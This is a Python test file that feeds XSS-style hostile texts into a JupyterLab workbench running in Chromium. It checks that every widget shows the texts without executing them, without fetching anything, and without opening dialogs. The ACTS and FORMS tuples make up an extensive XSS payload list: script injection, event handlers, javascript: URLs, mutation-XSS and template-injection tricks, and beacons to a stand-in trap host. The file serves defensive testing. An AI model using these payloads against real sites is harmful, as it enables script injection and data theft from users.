# ruff: noqa: E501  long lines inside texts
"""Hostile texts in a real JupyterLab and a real Chromium, through every widget of the workbench: they are shown, and do nothing.

A round makes a notebook with the browsers of errors, of responses, of summaries and of any run, in which every field is a hostile text,
opens every row, labels, probes, compares, looks for errors in such texts and verifies them. Nothing may run (`window.hacked`), nothing be
fetched (a server of ours counts), no dialog may open, no element may have come of a text, and each text must be read where it stands.
"""
import json
import random
import tempfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

from hostile_texts import hostile
from in_browser import CHROMIUM, NEEDED, Opened, chromium, running_lab, trapped
from trials import Kinds, Trials
from workbench.test_browser_workbench import ERRORS, HOSTILE, Bench, hostile_cases, label_probe_and_find, notebook

ACTS = ('window.hacked={n}', 'alert({n})', "fetch('{there}/{n}')", "new Image().src='{there}/{n}'", "import('{there}/{n}.js')",
        "document.body.innerHTML='gone';window.hacked={n}", "navigator.sendBeacon('{there}/{n}')", "open('{there}/{n}')")
FORMS = (
    '<script>{act}</script>', '<SCRIPT SRC="{there}/s{n}.js"></SCRIPT>', '<scr<script>ipt>{act}</scr</script>ipt>', '<img src=x onerror="{act}">',
    "<img/src='{there}/i{n}'/onerror={act}>", '<svg onload="{act}">', '<svg><script>{act}</script></svg>', '<svg><image href="{there}/v{n}"/></svg>',
    '<iframe src="{there}/f{n}"></iframe>', '<iframe srcdoc="<script>parent.{act}</script>"></iframe>', '<object data="{there}/o{n}"></object>',
    '<embed src="{there}/e{n}">', '<video src="{there}/v{n}" onerror="{act}" autoplay></video>', '<audio src="{there}/a{n}" onerror="{act}">',
    '<link rel="stylesheet" href="{there}/l{n}.css">', '<style>@import "{there}/c{n}.css"; *{{background:url({there}/b{n})}}</style>',
    '<meta http-equiv="refresh" content="0;url={there}/m{n}">', '<base href="{there}/">', '<form action="{there}/p{n}"><button autofocus>go',
    '<input autofocus onfocus="{act}">', '<details open ontoggle="{act}"><summary>more</summary></details>', '<marquee onstart="{act}">runs',
    '<body onload="{act}">', '<a href="javascript:{act}">here</a>', '<a href="java&#9;script:{act}">here</a>', '<math><mtext></table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror={act}&gt;">', '<noscript><p title="</noscript><img src=x onerror={act}>">', '<template><img src=x onerror={act}>',
    '<!--><img src=x onerror={act}>-->', '<![CDATA[<img src=x onerror={act}>]]>', '</textarea></select></title></style><img src=x onerror={act}>',
    '"><img src=x onerror={act}>', "'/><svg onload={act}>", '" autofocus onfocus="{act}" x="', "' onmouseover='{act}", '` onmouseover=`{act}',
    '&lt;img src=x onerror={act}&gt;', '&#60;script&#62;{act}&#60;/script&#62;', '\\u003cimg src=x onerror={act}\\u003e', '%3Cscript%3E{act}%3C/script%3E',
    '[link](javascript:{act})', '![picture]({there}/md{n}.png)', '[ref]: {there}/ref{n}', '<{there}/auto{n}>', '$\\href{{javascript:{act}}}{{x}}$',
    '$$\\includegraphics{{{there}/t{n}}}$$', '\\(\\style{{background:url({there}/y{n})}}{{x}}\\)', "{{{{constructor.constructor('{act}')()}}}}", '${{{act}}}',
    '<%= {act} %>', 'IPY_MODEL_0123456789abcdef0123456789abcdef {act}', 'javascript:{act}', 'data:text/html,<script>{act}</script>',
    '\x1b]8;;{there}/x{n}\x07link\x1b]8;;\x07', '\x1b[2J\x1b[31m{act}', '\u202e<script>{act}</script>\u202c', '<img src="{there}/z{n}" srcset="{there}/w{n} 2x">',
    '<table background="{there}/tb{n}"><tr><td style="background:url({there}/td{n})">x', '<div style="width:expression({act})">', '<xss style="animation-name:x" onanimationstart="{act}">',
    '<ruby\x00onclick={act}>', '＜script＞{act}＜/script＞', '<b onpointerenter="{act}">x</b>', '<button popovertarget=x onclick="{act}">b</button><div popover id=x onbeforetoggle="{act}">',
    '<select><option onfocus="{act}">', '<portal src="{there}/po{n}">', '<svg><a xlink:href="javascript:{act}"><text>t</text></a></svg>',
    '<svg><animate onbegin="{act}" attributeName=x dur=1s>', '<svg><use href="{there}/u{n}.svg#x"/></svg>', '<script type="application/vnd.jupyter.widget-view+json">{{}}</script>')
AROUND = ('{}', 'The mill {} closed.', '{} 东京', 'שלום {} עולם', '| {} |', '- {}\n- and', '"{}"', "<b>{}</b>", '{}{}', '```\n{}\n```', '> {}', '\t{}\n\n', '<p>{}', '{} 👩‍👩‍👧‍👦')
ACTIVE = ('script, iframe, object, embed, link, svg[onload], img, a, video, audio, form, base, meta, marquee, portal, [onerror], [onmouseover], [onfocus], '
          '[onload], [ontoggle], [onclick], [style*="url("]')


def texts_of(draws: random.Random, there: str, count: int = 10) -> list[str]:
    "Hostile texts, each with a word of its own before it and behind it."
    found = []
    for _ in range(count):
        word, n = f'm{draws.randrange(10**8):08}', draws.randrange(10**6)
        if draws.random() < .2: said = draws.choice(hostile(there)).replace('\ud83d', '')
        else:
            form = draws.choice(FORMS)
            said = form.format(act=draws.choice(ACTS).format(n=n, there=there), there=there, n=n)
        found.append(f'{word}a ' + draws.choice(AROUND).replace('{}', said) + f' {word}z')
    return found


def letters(text: str) -> str: return ''.join(filter(str.isalnum, text))


def opened_rows(name: str, bench: Bench, texts: list[str]) -> Trials:
    "Open each row and look whether its text can be read."
    for n, text in enumerate(texts):
        bench.rows().nth(n).click()
        seen = ''
        for _ in range(40):
            bench.page.wait_for_timeout(150)
            if letters(text) in (seen := letters(bench.out.inner_text())): break
        else: yield f'{name}: {text!r} is not shown: {seen[:200]!r}'; continue
        yield ''


def used(errors: Bench, others: list[Bench], texts: list[str]) -> Trials:
    "Label, probe, look for errors, verify and compare."
    label_probe_and_find(errors, others, texts)
    yield '' if letters(texts[-1]) in letters(errors.out.inner_text()) else f'scratch pad: {texts[-1]!r} is not shown'
    for label, name in (('Extractor', 'sentences'), ('Retriever', 'bm25'), ('Verifier', 'cosine')):
        errors.page.get_by_label(label, exact=True).fill(name)
        errors.page.keyboard.press('Tab')
    errors.page.get_by_role('textbox', name='Text', exact=True).fill(f'The bridge is old. {" ".join(texts[:3])}')
    errors.button('Verify').click()
    errors.opened.wait_for(lambda: ' supported, ' in errors.out.inner_text(), 'the verdict', 180)
    yield '' if letters(texts[0])[:20] in letters(errors.out.inner_text()) else f'verification: {texts[0]!r} is not shown'
    errors.tab('Compare')
    errors.out.locator('.rows').last.locator('label:has(input)').first.click()
    errors.opened.settle()
    yield '' if letters(texts[0]) in letters(errors.out.inner_text()) else f'comparison: {texts[0]!r} is not shown'


def inert(opened: Opened, fetched: list[str], said: str) -> Iterator[str]:
    "Nothing has run, nothing was fetched, nothing has opened, and no element has come of a text."
    page = opened.page
    for x, y in ((400, 400), (700, 900), (300, 1500)): page.mouse.move(x, y)
    page.wait_for_timeout(300)
    made = page.locator('.jp-OutputArea-output').locator(ACTIVE)
    for what, found in (('ran', page.evaluate('window.hacked')), ('dialogs', opened.dialogs), ('fetched', fetched), ('foreign', opened.foreign()),
                        ('elements', [made.nth(n).evaluate('e => e.outerHTML.slice(0, 200)') for n in range(min(3, made.count()))])):
        yield f'{what}: {found}, of {said}' if found else ''


def one_round(browser, lab, root: Path, draws: random.Random) -> Trials:
    with trapped() as (there, fetched):
        texts = texts_of(draws, there)
        (root/'texts.json').write_text(json.dumps(texts))
        name = f'hostile{draws.randrange(10**6)}'
        opened = Opened(browser, lab, notebook(root, name, root/f'{name}.jsonl', (ERRORS, *HOSTILE), hostile_cases(texts)), 1280, 5200).run_all(name)
        if opened.errors(): yield f'an error in the notebook: {opened.errors()[0][:300]} of {texts}'; return
        benches = [Bench(opened, cell) for cell in range(1, 5)]
        for kind, bench in zip(('errors', 'responses', 'summaries', 'any run'), benches, strict=True): yield from opened_rows(kind, bench, texts)
        try: yield from used(benches[0], benches[1:], texts)
        except AssertionError as error: yield f'a widget does not answer: {str(error)[:300]} of {texts}'
        yield from inert(opened, fetched, str(texts))
        with suppress(Exception): opened.page.close()


def rounds(draws: random.Random) -> Trials:
    if CHROMIUM is None: raise SystemExit(NEEDED)
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)/'root'
        root.mkdir()
        with running_lab(root) as lab, chromium() as browser:
            for _ in range(ROUNDS): yield from one_round(browser, lab, root, draws)


ROUNDS = 8  # of ten texts each
KINDS: Kinds = {'every widget': rounds}
